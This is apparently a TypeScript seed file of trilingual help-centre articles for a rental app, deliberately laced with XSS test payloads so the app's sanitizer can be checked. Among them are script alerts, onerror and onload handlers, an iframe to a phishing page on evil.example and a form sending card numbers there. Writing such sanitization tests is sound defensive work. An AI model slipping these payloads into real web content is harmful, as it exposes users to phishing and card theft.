// Help-centre topics and articles in ge/en/ru (spec §7 Help centre). Article bodies are HTML from a CMS:
// a few carry script-like bits on purpose, so widgets prove they sanitize before rendering.
import type { Localized } from './apartments';
import type { Db } from './db';

export interface HelpTopic {
  id: number;
  title: Localized;
  description: Localized;
}

export interface HelpArticle {
  id: number;
  topicId: number;
  title: Localized;
  /** HTML, to be sanitized by whoever renders it. */
  content: Localized;
  updatedAt: string;
}

export interface HelpCentreState {
  topics: HelpTopic[];
  articles: HelpArticle[];
}

const topics: HelpTopic[] = [
  {
    id: 1,
    title: { ge: 'ანგარიში და შესვლა', en: 'Account and sign-in', ru: 'Учётная запись и вход' },
    description: {
      ge: 'პაროლი, ორფაქტორიანი ავთენტიფიკაცია, მოწყობილობები.',
      en: 'Password, two-factor authentication, devices.',
      ru: 'Пароль, двухфакторная аутентификация, устройства.',
    },
  },
  {
    id: 2,
    title: { ge: 'ჯავშნები', en: 'Bookings', ru: 'Бронирования' },
    description: {
      ge: 'ჯავშნის შექმნა, დადასტურება და გაუქმება.',
      en: 'Creating, approving and canceling bookings.',
      ru: 'Создание, подтверждение и отмена бронирований.',
    },
  },
  {
    id: 3,
    title: {
      ge: 'გადახდები და კომუნალური',
      en: 'Payments and utilities',
      ru: 'Оплата и коммунальные услуги',
    },
    description: {
      ge: 'ინვოისები, ელექტროენერგია, წყალი, ინტერნეტი.',
      en: 'Invoices, electricity, water, internet.',
      ru: 'Счета, электричество, вода, интернет.',
    },
  },
  {
    id: 4,
    title: { ge: 'მხარდაჭერა', en: 'Support', ru: 'Поддержка' },
    description: {
      ge: 'როგორ გავხსნათ და დავხუროთ მიმართვა.',
      en: 'How to open and close a ticket.',
      ru: 'Как открыть и закрыть обращение.',
    },
  },
];

type SeedArticle = [topicId: number, title: Localized, content: Localized];

const seeded: SeedArticle[] = [
  [
    1,
    { ge: 'როგორ აღვადგინო პაროლი', en: 'How to reset your password', ru: 'Как сбросить пароль' },
    {
      ge: '<h2>პაროლის აღდგენა</h2><p>შესვლის გვერდზე დააჭირეთ <strong>„დაგავიწყდათ პაროლი?“</strong> და მიუთითეთ ელ-ფოსტა. ბმული მოქმედებს <em>1 საათი</em>.</p><ol><li>გახსენით წერილი.</li><li>დააჭირეთ ბმულს.</li><li>შეიყვანეთ ახალი პაროლი (მინ. 8 სიმბოლო, ერთი დიდი ლათინური ასო და ციფრი).</li></ol>',
      en: '<h2>Resetting your password</h2><p>On the sign-in page choose <strong>Forgot password?</strong> and enter your e-mail. The link works for <em>1 hour</em>.</p><ol><li>Open the e-mail.</li><li>Follow the link.</li><li>Enter a new password (at least 8 characters, one uppercase Latin letter and a digit).</li></ol>',
      ru: '<h2>Сброс пароля</h2><p>На странице входа нажмите <strong>«Забыли пароль?»</strong> и укажите e-mail. Ссылка действует <em>1 час</em>.</p><ol><li>Откройте письмо.</li><li>Перейдите по ссылке.</li><li>Введите новый пароль (не менее 8 символов, одна заглавная латинская буква и цифра).</li></ol>',
    },
  ],
  [
    1,
    { ge: 'ორფაქტორიანი შესვლა', en: 'Two-factor sign-in', ru: 'Двухфакторный вход' },
    {
      ge: '<p>ახალი მოწყობილობიდან შესვლისას ელ-ფოსტაზე მიიღებთ 6-ნიშნა კოდს. კოდი მოქმედებს 10 წუთი.</p><script>alert("xss")</script><p>კოდი არ მოვიდა? დააჭირეთ „ხელახლა გაგზავნას“.</p>',
      en: '<p>When you sign in from a new device we e-mail you a 6-digit code. The code is valid for 10 minutes.</p><script>alert("xss")</script><p>No code? Choose <a href="javascript:alert(1)">Resend</a> on the verification page.</p>',
      ru: '<p>При входе с нового устройства мы отправим на e-mail 6-значный код. Код действует 10 минут.</p><script>alert("xss")</script><p>Код не пришёл? Нажмите «Отправить снова».</p>',
    },
  ],
  [
    1,
    { ge: 'დაკავშირებული მოწყობილობები', en: 'Connected devices', ru: 'Подключённые устройства' },
    {
      ge: '<p>გვერდზე <a href="/devices">მოწყობილობები</a> ხედავთ, საიდან ხართ შესული. მიმდინარე სესიის წაშლა შეუძლებელია.</p>',
      en: '<p>The <a href="/devices">Devices</a> page lists where you are signed in. You cannot remove the current session.</p><img src="x" onerror="alert(\'devices\')" alt="">',
      ru: '<p>На странице <a href="/devices">Устройства</a> видно, где выполнен вход. Текущий сеанс удалить нельзя.</p>',
    },
  ],
  [
    2,
    {
      ge: 'ჯავშნის დადასტურება 48 საათში',
      en: 'Approving a booking within 48 hours',
      ru: 'Подтверждение бронирования за 48 часов',
    },
    {
      ge: '<p>მასპინძლის მიერ შექმნილი ჯავშანი <strong>48 საათში</strong> უნდა დადასტურდეს, წინააღმდეგ შემთხვევაში ავტომატურად უარყოფილია.</p>',
      en: '<p>A booking created by the host must be approved within <strong>48 hours</strong>, otherwise it is declined automatically.</p><iframe src="https://evil.example/phish" width="600" height="400"></iframe>',
      ru: '<p>Бронирование, созданное хозяином, нужно подтвердить в течение <strong>48 часов</strong>, иначе оно будет отклонено автоматически.</p>',
    },
  ],
  [
    2,
    {
      ge: 'სტუმრის ჯავშნის გაუქმება',
      en: 'Canceling a guest booking',
      ru: 'Отмена бронирования гостя',
    },
    {
      ge: '<p>სტუმარს შეუძლია გააუქმოს ჯავშანი ელ-ფოსტით მიღებული ბმულით.</p><table><tr><th>სტატუსი</th><th>ფერი</th></tr><tr><td>ახალი</td><td>ყვითელი</td></tr><tr><td>დადასტურებული</td><td>მწვანე</td></tr><tr><td>გაუქმებული</td><td>წითელი</td></tr></table>',
      en: '<p>Guests cancel through the link in their e-mail.</p><table><tr><th>Status</th><th>Colour</th></tr><tr><td>New</td><td>Amber</td></tr><tr><td>Approved</td><td>Green</td></tr><tr><td>Canceled</td><td>Red</td></tr></table>',
      ru: '<p>Гость может отменить бронирование по ссылке из письма.</p><table><tr><th>Статус</th><th>Цвет</th></tr><tr><td>Новое</td><td>Жёлтый</td></tr><tr><td>Подтверждено</td><td>Зелёный</td></tr><tr><td>Отменено</td><td>Красный</td></tr></table>',
    },
  ],
  [
    3,
    { ge: 'ინტერნეტის შეჩერება', en: 'Pausing internet and TV', ru: 'Приостановка интернета и ТВ' },
    {
      ge: '<p>ინტერნეტი და ტელევიზია შეგიძლიათ შეაჩეროთ. შეჩერება ღირს <strong>6 ₾ თვეში</strong>.</p>',
      en: '<p>You can pause internet and TV. A pause costs <strong>6 GEL per month</strong>.</p><p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red" onclick="steal()">Click here</p>',
      ru: '<p>Интернет и ТВ можно приостановить. Пауза стоит <strong>6 ₾ в месяц</strong>.</p>',
    },
  ],
  [
    3,
    {
      ge: 'კომუნალური გადასახადების გადახდა',
      en: 'Paying utility bills',
      ru: 'Оплата коммунальных услуг',
    },
    {
      ge: '<p>აირჩიეთ ბინა, შემდეგ სერვისი და დააჭირეთ „გადახდას“. 3 წამში გადამისამართდებით გადახდის გვერდზე.</p>',
      en: '<p>Choose the apartment, then the service, and press <em>Pay</em>. You will be taken to the payment page after 3 seconds.</p><form action="https://evil.example/collect"><input name="card" placeholder="Card number"></form>',
      ru: '<p>Выберите квартиру, затем услугу и нажмите «Оплатить». Через 3 секунды откроется страница оплаты.</p>',
    },
  ],
  [
    4,
    { ge: 'მიმართვის გახსნა', en: 'Opening a support ticket', ru: 'Как открыть обращение' },
    {
      ge: '<p>აირჩიეთ განყოფილება და ტიპი, აღწერეთ პრობლემა და საჭიროების შემთხვევაში მიამაგრეთ ფაილი (PNG, JPG, PDF ან TXT, მაქს. 5 MB).</p>',
      en: '<p>Choose a department and a type, describe the problem and attach a file if needed (PNG, JPG, PDF or TXT, up to 5 MB).</p><svg onload="alert(1)"><circle r="10"></circle></svg>',
      ru: '<p>Выберите отдел и тип, опишите проблему и при необходимости приложите файл (PNG, JPG, PDF или TXT, до 5 МБ).</p><a href="https://example.com" target="_blank">Подробнее</a>',
    },
  ],
];

export function seedHelpCentre(db: Db): HelpCentreState {
  const now = db.clock.ms();
  return {
    topics,
    articles: seeded.map(([topicId, title, content], index) => ({
      id: 1 + index,
      topicId,
      title,
      content,
      updatedAt: new Date(now - (index + 1) * 7 * 86_400_000).toISOString(),
    })),
  };
}
